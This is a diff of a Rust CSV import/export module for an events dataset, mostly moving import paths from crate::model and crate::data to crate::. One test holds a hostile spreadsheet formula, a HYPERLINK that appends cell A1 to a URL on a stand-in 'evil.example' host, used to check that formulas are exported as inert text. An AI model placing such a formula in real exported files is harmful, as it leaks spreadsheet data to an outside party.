@@ -39,7 +39,7 @@ use std::fmt;
 
 use chrono::NaiveDate;
 
-use crate::model::{
+use crate::{
     Category, Dataset, DatePrecision, Event, FigureQualifier, KeyFigure, LocalizedText, OrganisationRole, PersonRole,
     Place, PlacePrecision, Relation, RelationKind, SourceCitation, SCHEMA_VERSION,
 };
@@ -217,7 +217,7 @@ fn records(items: impl Iterator<Item = Record>) -> String {
 }
 
 /// Reads a CSV file in the layout above. Returns every problem found, not only the first.
-/// The result still has to pass `data::validate` (the CLI does both).
+/// The result still has to pass `validate` (the CLI does both).
 pub fn import_csv(text: &str) -> Result<Dataset, Vec<CsvError>> {
     let mut reader = csv::ReaderBuilder::new()
         .flexible(false)
@@ -438,7 +438,7 @@ fn split_list(cell: &str) -> impl Iterator<Item = &str> {
 }
 
 fn parse_date(text: &str, column: &str, errors: &mut RowErrors<'_>) -> Option<NaiveDate> {
-    let parsed = crate::model::parse_day(text.trim());
+    let parsed = crate::parse_day(text.trim());
     if parsed.is_none() {
         errors.report(column, format!("{text:?} is not a date; expected YYYY-MM-DD"));
     }
@@ -537,8 +537,7 @@ fn parse_source(record: &Record) -> Result<SourceCitation, String> {
     let published = match record.get("published").as_str() {
         "" => None,
         text => Some(
-            crate::model::parse_day(text)
-                .ok_or_else(|| format!("published: {text:?} is not a date; expected YYYY-MM-DD"))?,
+            crate::parse_day(text).ok_or_else(|| format!("published: {text:?} is not a date; expected YYYY-MM-DD"))?,
         ),
     };
     Ok(SourceCitation {
@@ -699,7 +698,7 @@ mod tests {
 
     #[test]
     fn an_unknown_key_in_a_record_is_a_located_error() {
-        let text = export_csv(&crate::data::embedded_dataset().expect("the built-in events are valid"));
+        let text = export_csv(&crate::embedded_dataset().expect("the built-in events are valid"));
         let mut rows: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes())
             .records()
             .map(Result::unwrap)
@@ -738,7 +737,7 @@ mod tests {
 
     #[test]
     fn a_record_without_values_is_an_empty_line_so_the_round_trip_holds() {
-        let text = export_csv(&crate::data::embedded_dataset().expect("the built-in events are valid"));
+        let text = export_csv(&crate::embedded_dataset().expect("the built-in events are valid"));
         let mut rows: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes())
             .records()
             .map(Result::unwrap)
@@ -760,7 +759,7 @@ mod tests {
         assert_eq!(import_csv(&export_csv(&first)).unwrap().events, first.events);
     }
     use super::*;
-    use crate::data::embedded_dataset;
+    use crate::embedded_dataset;
 
     #[test]
     fn the_embedded_dataset_round_trips_through_csv() {
@@ -823,7 +822,7 @@ mod tests {
 
     #[test]
     fn formulas_are_exported_as_text_and_imported_back_exactly() {
-        let mut dataset = crate::data::embedded_dataset().unwrap(); // ok: the embedded dataset is valid
+        let mut dataset = crate::embedded_dataset().unwrap(); // ok: the embedded dataset is valid
         dataset.events.truncate(1);
         let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
         dataset.events[0].title.en = hostile.into();
